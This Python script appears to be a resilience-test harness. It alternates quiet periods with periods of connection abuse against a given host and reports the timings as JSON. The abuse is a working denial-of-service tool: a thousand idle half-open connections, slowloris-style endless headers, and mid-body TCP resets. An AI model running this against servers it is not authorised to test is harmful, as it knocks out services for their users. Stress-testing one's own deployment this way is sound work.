"""Clients that misuse connections, in periods, between which there are none; prints what it did as JSON.

    python attack.py HOST PERIODS SECONDS

Each period of so many seconds without them is followed by one with a thousand idle connections, fifty heads that never
end, and connections that are reset within a request's body. Runs in a pod beside the release, so it needs nothing but
Python. One thread does all of it, with the CPU time that nobody else wants: on a small node its own work would be
measured otherwise.
"""

from __future__ import annotations

import heapq
import itertools
import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Any

IDLE, HEADS, RESETS_A_SECOND = 1000, 50, 200
IDLE_A_SECOND = 500
HEAD = b"POST /predict HTTP/1.1\r\nHost: x\r\n"
HALF = HEAD + b"Content-Length: 100\r\n\r\n{"
RESET = struct.pack("ii", 1, 0)


class Attack:
    """What is due when, and the connections that are open."""

    def __init__(self, address: tuple[str, int]) -> None:
        self._address = address
        self._due: list[tuple[float, int, Callable[[float], None]]] = []
        self._number = itertools.count()
        self._held: list[socket.socket] = []
        self.most_held = self.resets = 0

    def _at(self, when: float, action: Callable[[float], None]) -> None:
        heapq.heappush(self._due, (when, next(self._number), action))

    def _connect(self) -> socket.socket:
        """A connection of which nobody has waited for the handshake."""
        sock = socket.socket()
        sock.setblocking(False)
        with suppress(BlockingIOError):
            sock.connect(self._address)
        return sock

    def _hold(self, when: float) -> None:
        self._held.append(self._connect())
        self.most_held = max(self.most_held, len(self._held))
        if len(self._held) < IDLE:
            self._at(when + 1 / IDLE_A_SECOND, self._hold)

    def _begin_head(self, when: float) -> None:
        sock = self._connect()
        self._at(when + 0.5, lambda now: self._trickle(now, sock, HEAD))

    def _trickle(self, when: float, sock: socket.socket, line: bytes) -> None:
        try:
            sock.send(line)
        except OSError:  # the server has had enough of it
            sock.close()
            self._begin_head(when)
        else:
            self._at(when + 0.5, lambda now: self._trickle(now, sock, b"X-A: b\r\n"))

    def _reset(self, when: float) -> None:
        sock = self._connect()
        self._at(when + 0.02, lambda now: self._break(sock))
        self._at(when + 1 / RESETS_A_SECOND, self._reset)

    def _break(self, sock: socket.socket) -> None:
        with suppress(OSError):
            sock.send(HALF)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            self.resets += 1
        sock.close()

    def run(self, until: float) -> None:
        """Attack until a time (monotonic), and close what is open then."""
        now = time.monotonic()
        self._at(now, self._hold)
        self._at(now, self._reset)
        for at in range(HEADS):
            self._at(now + at * 0.5 / HEADS, self._begin_head)
        while self._due[0][0] < until:
            when, _, action = heapq.heappop(self._due)
            time.sleep(max(0.0, when - time.monotonic()))
            # Late by far, it goes on at the same rate instead of all at once.
            action(max(when, time.monotonic() - 0.05))
        self._due.clear()
        self._held.clear()  # closes them


def main(host: str, periods: int, seconds: float) -> dict[str, Any]:
    """Quiet and attacked periods in turns, each as its begin and end (monotonic), and the counts."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    attack = Attack((socket.gethostbyname(host), 80))
    quiet, attacked = [], []
    for _ in range(periods):
        time.sleep(1)  # the end of the last one is over by then
        begin = time.monotonic()
        time.sleep(seconds)
        middle = time.monotonic()
        attack.run(middle + seconds)
        quiet.append((begin, middle))
        attacked.append((middle, time.monotonic()))
    return {"quiet": quiet, "attacked": attacked, "held": attack.most_held, "resets": attack.resets}


if __name__ == "__main__":
    print(json.dumps(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))))
